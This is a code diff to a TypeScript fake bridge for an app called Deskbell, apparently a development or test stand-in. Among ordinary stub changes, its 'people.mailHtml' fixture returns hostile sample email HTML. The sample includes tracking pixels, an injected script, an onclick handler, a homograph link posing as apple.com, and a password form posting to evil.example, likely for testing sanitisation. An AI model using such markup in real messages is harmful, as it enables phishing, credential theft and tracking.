@@ -185,7 +185,17 @@ export function fakeBridge(options: FakeOptions): DeskbellBridge {
     'team.list': () => ({ members: world.members }),
     'team.save': (member) => {
       const id = member.id ?? nextId++
-      world.members = [...world.members.filter((it) => it.id !== id), { ...member, id }]
+      const before = world.members.find((it) => it.id === id)
+      const { hours, calendar, skills, capacity, absences, ...rest } = member
+      const saved = {
+        ...rest,
+        id,
+        calendar: hours ? `member-${id}` : calendar === undefined ? (before?.calendar ?? null) : calendar,
+        skills: skills ?? before?.skills ?? [],
+        capacity: capacity === undefined ? (before?.capacity ?? null) : capacity,
+        absences: (absences ?? before?.absences ?? []) as World['members'][number]['absences'],
+      }
+      world.members = [...world.members.filter((it) => it.id !== id), saved]
       changed()
       return { id }
     },
@@ -239,12 +249,18 @@ export function fakeBridge(options: FakeOptions): DeskbellBridge {
       const row = world.rows.find((it) => it.personId === personId)
       return card.lead && row ? { ...card, lead: { ...card.lead, row } } : card
     },
-    ...enrichAnswers(),
+    ...enrichAnswers(changed),
     'people.timeline': ({ personId, before, limit }) => {
       const all = timeline(personId)
       const end = before ? all.findIndex((it) => it.id === before.id) : all.length
       return { entries: all.slice(Math.max(0, end - limit), end), more: end > limit }
     },
+    'score.textModel': () => ({
+      state: 'ready',
+      message: 'What people want, and how urgent it is, is read on this computer. Nothing is sent anywhere.',
+      waiting: 0,
+    }),
+    'score.correctIntent': () => ({ was: null }),
     'people.mailHtml': () => ({
       html: '<html><head><style>.x{background:url(https://tracker.example/bg.png)} h2{color:#0a6b4d}</style></head><body><h2>Quote for the kitchen</h2><p onclick="alert(1)">Thanks! Could you also include the <b>worktop</b>?</p><img src="https://tracker.example/pixel.gif" width="1" height="1"><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" width="60" height="40"><p><a href="https://xn--pple-43d.com/login">https://apple.com</a></p><script>document.title="hacked"</script><form action="https://evil.example"><input name="pw"></form></body></html>',
     }),
